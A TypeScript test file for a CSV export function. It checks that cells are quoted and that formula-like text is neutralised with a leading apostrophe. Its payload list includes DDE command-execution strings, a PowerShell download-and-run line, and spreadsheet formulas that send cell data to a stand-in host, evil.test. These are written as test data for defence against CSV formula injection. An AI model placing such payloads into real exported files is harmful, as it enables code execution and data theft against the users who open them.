import assert from 'node:assert/strict'
import { test } from 'node:test'

import { type CsvCell, csv } from './csv.ts'

/** Formula injection payloads, one a line: each prefix that starts a formula in a spreadsheet. */
const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1',
  '=SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
  '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
  '=IMPORTXML("http://evil.test/","//a")',
  '=IMPORTDATA("http://evil.test/"&A2)',
  '=IMAGE("http://evil.test/x.png")',
  '=WEBSERVICE("http://evil.test/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  '==1+1',
  '=',
  '= 1',
  '="a"&"b"',
  '=@SUM(1)',
  '={1,2}',
  '=A1,B2',
  '=1\r\n=2',
  '=""',
  "='x'!A1",
  '＝1+1',
  '\r=1+1',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+SUM(1;2)',
  '+1',
  '+',
  '++1',
  '+A1',
  '+"x"',
  '+442071234567',
  '+=1',
  '-1+1',
  "-cmd|' /C calc'!A0",
  '-SUM(1;2)',
  '-1',
  '-',
  '--1',
  '-A1',
  "-2+3+cmd|' /C calc'!A0",
  '-"x"',
  '-=1',
  '@SUM(1+1)',
  '@A1',
  '@',
  "@cmd|' /C calc'!A0",
  '@=1',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '@"x"',
  '@ibm',
  '\t=1+1',
  '\t+1',
  '\t-1',
  '\t@SUM(1)',
  '\t',
  '\tplain',
  '\t\t=1',
  '\0=1+1',
  '\0+1',
  '\0-1',
  '\0@SUM(1)',
  '\0',
  '\0plain',
]

/** Texts with the same characters in other positions, or texts that need quoting; they must not change. */
const HARMLESS_TEXTS: readonly string[] = [
  '',
  'Plain',
  '12,400',
  'a=b',
  '1-2',
  'me@bank.example',
  'Smith, John',
  'He said "no"',
  'line one\r\nline two',
  "'=1+1",
  "'",
  '"',
  '""',
  ',',
  ';',
  '  =1+1',
  ' -1',
  'Ünïcode – Ω 株',
  '–5',
  '−5',
  '<img src=x onerror=alert(1)>',
  'https://example.test/?q=%3D',
  'a\tb',
  '🚀 growth',
  'C:\\temp',
]

test('every cell is quoted, missing is empty, lines end in CRLF, a byte order mark comes first', () => {
  const rows: CsvCell[][] = [
    ['Global Equity Core', { kind: 'money', value: 48213450.25 }, { kind: 'percentChange', value: -0.0018 }],
    ['Say "when", please', { kind: 'money', value: null }, null],
  ]
  assert.equal(
    csv(['Account', 'NPV', '1D'], rows),
    '\uFEFF"Account","NPV","1D"\r\n"Global Equity Core","48213450.25","-0.18"\r\n"Say ""when"", please","",""\r\n',
  )
})

test('a text that a spreadsheet would run as a formula gets a leading apostrophe', () => {
  for (const payload of FORMULA_PAYLOADS) assert.deepEqual(parsed(csv(['Name'], [[payload]])), [['Name'], [`'${payload}`]])
})

test('any other text is left as it is, and survives a round trip', () => {
  for (const text of HARMLESS_TEXTS) assert.deepEqual(parsed(csv(['Name'], [[text]])), [['Name'], [text]])
})

test('a number keeps its minus and gets no apostrophe', () => {
  assert.deepEqual(parsed(csv(['NPV'], [[{ kind: 'money', value: -12.5 }]])), [['NPV'], ['-12.5']])
})

test('titles that look like a formula get an apostrophe too', () => {
  assert.deepEqual(parsed(csv(['=1+1'], [])), [["'=1+1"]])
})

/** Parses RFC 4180 independently of the writer: quoted cells only, doubled quotes, CRLF between lines. */
function parsed(text: string): string[][] {
  assert.equal(text.charCodeAt(0), 0xfeff)
  const rows: string[][] = [[]]
  let at = 1
  while (at < text.length) {
    assert.equal(text[at], '"', `a cell that is not quoted at ${at}`)
    let cell = ''
    for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
      if (text[at] === '"') at += 1
      cell += text[at]
    }
    rows.at(-1)?.push(cell)
    at += 1
    if (text[at] === ',') at += 1
    else {
      assert.equal(text.slice(at, at + 2), '\r\n')
      at += 2
      if (at < text.length) rows.push([])
    }
  }
  return rows
}
